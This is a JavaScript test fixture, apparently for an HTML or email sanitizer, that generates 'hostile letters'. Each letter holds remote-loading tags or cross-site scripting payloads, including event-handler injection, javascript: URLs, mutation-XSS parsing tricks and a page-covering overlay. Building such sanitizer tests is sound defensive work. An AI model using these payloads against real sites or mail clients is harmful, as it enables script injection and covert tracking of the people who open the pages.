// Letters that try to act, to load or to cover the page. `T` is where they would be heard.

/** The HTML of each. */
export function hostile(site) {
  const T = `${site}/hit`;
  const loads = [
    `<img src="${T}/img">`, `<img srcset="${T}/srcset 1x">`, `<picture><source srcset="${T}/picture"><img></picture>`,
    `<img src="x" lowsrc="${T}/lowsrc" dynsrc="${T}/dynsrc">`, `<input type="image" src="${T}/input">`, `<body background="${T}/body">x</body>`,
    `<table background="${T}/table"><tr><td background="${T}/td">x</td></tr></table>`, `<video src="${T}/video" poster="${T}/poster" autoplay></video>`,
    `<audio src="${T}/audio" autoplay></audio>`, `<track src="${T}/track">`, `<embed src="${T}/embed">`, `<object data="${T}/object"></object>`,
    `<iframe src="${T}/iframe"></iframe>`, `<iframe srcdoc="<img src=${T}/srcdoc>"></iframe>`, `<frameset><frame src="${T}/frame"></frameset>`,
    `<link rel="stylesheet" href="${T}/css">`, `<link rel="prefetch" href="${T}/prefetch">`, `<link rel="dns-prefetch" href="${T}/dns">`,
    `<link rel="preload" as="image" href="${T}/preload">`, `<link rel="icon" href="${T}/icon">`, `<meta http-equiv="refresh" content="0;url=${T}/refresh">`,
    `<base href="${T}/"><img src="base">`, `<style>@import url("${T}/import");</style>`, `<style>body{background:url(${T}/url)}</style>`,
    `<style>:root{--x:url(${T}/var)}body{background:var(--x)}</style>`, `<style>@font-face{font-family:x;src:url(${T}/font)}body{font-family:x}</style>`,
    `<style>body{cursor:url(${T}/cursor),auto}</style>`, `<style>li{list-style-image:url(${T}/list)}</style><ul><li>x</ul>`,
    `<style>body:has(a){background:image-set("${T}/has" 1x)}</style><a>x</a>`, `<div style="background:url('${T}/style')">x</div>`,
    `<div style="background:url(${T}/unclosed">x</div>`, `<div style="background-image:u\\72l(${T}/escaped)">x</div>`, `<div style="content:url(${T}/content)">x</div>`,
    `<div style="border-image:url(${T}/border) 1">x</div>`, `<div style="mask:url(${T}/mask)">x</div>`, `<div style="filter:url(${T}/filter#x)">x</div>`,
    `<svg><image href="${T}/svg-image"/></svg>`, `<svg><rect fill="url(${T}/svg-fill#x)" width="9" height="9"/></svg>`,
    `<svg><use href="${T}/svg-use#x"/></svg>`, `<svg><filter><feImage href="${T}/feimage"/></filter></svg>`,
    `<svg><animate attributeName="href" values="${T}/animate"/></svg>`, `<svg><style>@import url(${T}/svg-css);</style></svg>`,
    `<math><mglyph src="${T}/mglyph"></mglyph></math>`, `<bgsound src="${T}/bgsound">`, `<applet code="${T}/applet"></applet>`,
    `<a href="https://ok.example" ping="${T}/ping">x</a>`, `<form action="${T}/form"><input autofocus><button>Envoyer</button></form>`,
  ];
  const hit = `(new Image()).src='${T}/script';document.title='pwned';top.document.title='pwned';alert(1)`;
  const acts = [
    `<script>${hit}</script>`, `<img src=x onerror="${hit}">`, `<svg onload="${hit}"></svg>`, `<body onload="${hit}">x</body>`,
    `<details open ontoggle="${hit}">x</details>`, `<a href="javascript:${hit}">x</a>`, `<iframe src="javascript:${hit}"></iframe>`,
    `<input autofocus onfocus="${hit}">`, `<div style="animation:x" onanimationstart="${hit}">x</div><style>@keyframes x{}</style>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${hit}&gt;"></mglyph></table></mtext></math>`,
    `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript>`, `<template><script>${hit}</script></template>`,
    `<object data="data:text/html,<script>${hit}</script>"></object>`, `<div style="position:fixed;inset:0;z-index:99999;background:red">covers all</div>`,
    `<xmp><img src=x onerror="${hit}"></xmp>`, `<textarea><img src=x onerror="${hit}"></textarea>`,
  ];
  return [...loads, ...acts].map((html, i) => `<html><body><p>Lettre hostile ${i}</p>${html}</body></html>`);
}
